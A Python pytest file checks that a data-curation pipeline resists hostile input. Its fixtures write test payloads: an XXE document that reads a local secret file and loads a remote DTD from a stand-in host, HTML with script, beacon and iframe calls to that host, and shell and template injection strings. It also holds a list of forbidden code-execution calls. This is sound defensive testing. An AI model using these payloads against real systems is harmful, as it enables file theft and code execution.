"""Security: no network at run time, no external entities, nothing from a raw file executed or used
as an output path, servers on the loopback address only."""
from __future__ import annotations

import ast
import json
import os
import re
import socket
import subprocess
import sys

import polars as pl
import pytest
from conftest import REPO, html_page, text_page

from commentary import reader, steps

SECRET = "SECRET-7f3a9c-not-for-the-dataset"
#: Every path a run may create under the curated folder (relative, forward slashes).
OUTPUT_LAYOUT = re.compile(r"""^(?:
    \.run\.lock | \.publish\.lock | LATEST | CHANGELOG\.md | cache/clean\.json | cache/release-hashes/(?:articles|furniture)\.parquet
  | releases/\d+\.\d+\.\d+/(?:manifest\.json|datapackage\.json|README\.md|LICENSE\.md|CHANGELOG\.md|report\.html|changes\.parquet|charts/[a-z_]+\.png
        | (?:articles|furniture)/part-\d{5}\.parquet)
  | runs/\d{8}T\d{12}Z/(?:ledger\.json|quality\.json|rejects\.parquet|repairs\.parquet
        | (?:rejects|repairs)/(?:ingest|clean|curate|release)-\d{5}\.parquet
        | stages/(?:stamps|ingest|clean|furniture|keys|dedup|measures)/shard-\d{5}\.parquet | stages/curate/marks\.parquet
        | quality/gx/.+)
)$""", re.VERBOSE)
#: Calls that would run or unpickle something: none may appear in the project's code.
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "pickle.load", "pickle.loads", "marshal.load", "marshal.loads",
                   "shelve.open", "yaml.load", "yaml.unsafe_load", "yaml.full_load", "os.system", "os.popen", "os.exec",
                   "importlib.import_module"}


def _raw_folder(root, secret_file, articles):
    root.mkdir()
    xxe = (f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY xxe SYSTEM "file://{secret_file}">'
           f'<!ENTITY % remote SYSTEM "http://203.0.113.9/evil.dtd"> %remote;]>')
    (root / "xxe.html").write_text(xxe + html_page(*articles[0]).replace("<p>", "<p>&xxe; ", 1).removeprefix("<!DOCTYPE html>"))
    external = html_page(*articles[1]).replace(
        "<head>", "<head><link rel='stylesheet' href='http://203.0.113.9/s.css'><meta http-equiv='refresh' content='0; url=http://203.0.113.9/'>"
        "<script src='http://203.0.113.9/x.js'></script><script>fetch('http://203.0.113.9/beacon')</script>").replace(
        "</article>", "<img src='http://203.0.113.9/p.png'><iframe src='http://203.0.113.9/f'></iframe></article>")
    (root / "external.html").write_text(external)
    (root / "external.html.meta.json").write_text(json.dumps({"url": "http://203.0.113.9/article", "published_date": "2021-06-25"}))
    (root / "payload.txt").write_text(text_page("__import__('os').system('touch pwned')", articles[2][1] + "\n\n{{7*7}} $(touch pwned) `touch pwned`"))
    for name in ("LATEST.txt", ".staging-evil.txt", "..txt", "releases.txt", "runs.html"):
        (root / name).write_text(text_page(f"Title of {name}", articles[3][1]))


@pytest.fixture(scope="module")
def offline_run(tmp_path_factory, articles):
    """A run with every socket refused; returns the curated folder, the ledger and the connection attempts."""
    base = tmp_path_factory.mktemp("security")
    secret_file = base / "secret.txt"
    secret_file.write_text(SECRET)
    _raw_folder(base / "raw", secret_file, articles)
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network access is not allowed during a run")

    patch = pytest.MonkeyPatch()
    for name in ("connect", "connect_ex"):
        patch.setattr(socket.socket, name, refuse)
    patch.setattr(socket, "getaddrinfo", refuse)
    patch.setattr(socket, "create_connection", refuse)
    cwd = os.getcwd()
    os.chdir(base)  # anything written relative to the working folder would land here
    try:
        entry = steps.run(base / "raw", base / "curated")
    finally:
        os.chdir(cwd)
        patch.undo()
    return base, entry, attempts


def test_a_run_makes_no_network_access(offline_run):
    _, entry, attempts = offline_run
    assert entry["release"]["published"] and entry["balanced"]
    assert attempts == []


def test_no_external_entity_is_resolved(offline_run):
    base, entry, _ = offline_run
    curated = base / "curated"
    tables = [reader.scan_table(curated, "articles").collect(), reader.scan_table(curated, "furniture").collect()]
    tables += [pl.read_parquet(p) for p in (curated / "runs" / entry["run_id"] / "stages").rglob("*.parquet")]
    assert "xxe.html" in tables[0]["source_path"].to_list()
    for table in tables:
        assert SECRET not in json.dumps(table.to_dicts(), default=str, ensure_ascii=False)


def test_nothing_in_a_raw_file_is_executed(offline_run):
    base, _, _ = offline_run
    assert not list(base.rglob("pwned"))
    body = reader.scan_table(base / "curated", "articles").collect().filter(pl.col("source_path") == "payload.txt")["body"][0]
    assert "{{7*7}} $(touch pwned) `touch pwned`" in body  # kept as text, not evaluated


def test_output_paths_follow_the_layout_never_raw_names(offline_run):
    base, _, _ = offline_run
    curated = base / "curated"
    paths = [p.relative_to(curated).as_posix() for p in curated.rglob("*") if p.is_file()]
    assert paths and [p for p in paths if not OUTPUT_LAYOUT.match(p)] == []
    assert sorted(p.name for p in base.iterdir()) == ["curated", "raw", "secret.txt"]


def _called_name(node: ast.Call) -> str:
    func = node.func
    parts = []
    while isinstance(func, ast.Attribute):
        parts.append(func.attr)
        func = func.value
    if isinstance(func, ast.Name):
        parts.append(func.id)
    return ".".join(reversed(parts))


def test_the_code_has_no_call_that_runs_or_unpickles_data():
    found = []
    for folder in ("commentary", "schemas", "flows"):
        for path in sorted((REPO / folder).rglob("*.py")):
            for node in ast.walk(ast.parse(path.read_text(), str(path))):
                if not isinstance(node, ast.Call):
                    continue
                name = _called_name(node)
                shell = any(k.arg == "shell" and not (isinstance(k.value, ast.Constant) and k.value.value is False)
                            for k in node.keywords)
                # This interpreter, run again (as the code runs it with subprocess), is no data run.
                own_interpreter = bool(node.args) and ast.unparse(node.args[0]) == "sys.executable"
                if name in FORBIDDEN_CALLS or name.startswith("os.exec") and not own_interpreter or shell:
                    found.append(f"{path.relative_to(REPO)}:{node.lineno} {name}")
    assert found == []


def test_servers_listen_on_the_loopback_address_only():
    code = ("from commentary.settings import apply_environment_defaults; apply_environment_defaults();"
            "from prefect.settings import get_current_settings; print(get_current_settings().server.api.host);"
            "from prefect.server.api.server import SubprocessASGIServer; print(SubprocessASGIServer().address)")
    env = {k: v for k, v in os.environ.items() if not k.startswith("PREFECT_SERVER_API")}
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=REPO, env=env, check=True).stdout.split()
    assert out[0] == "127.0.0.1"
    assert out[1].startswith("http://127.0.0.1:")
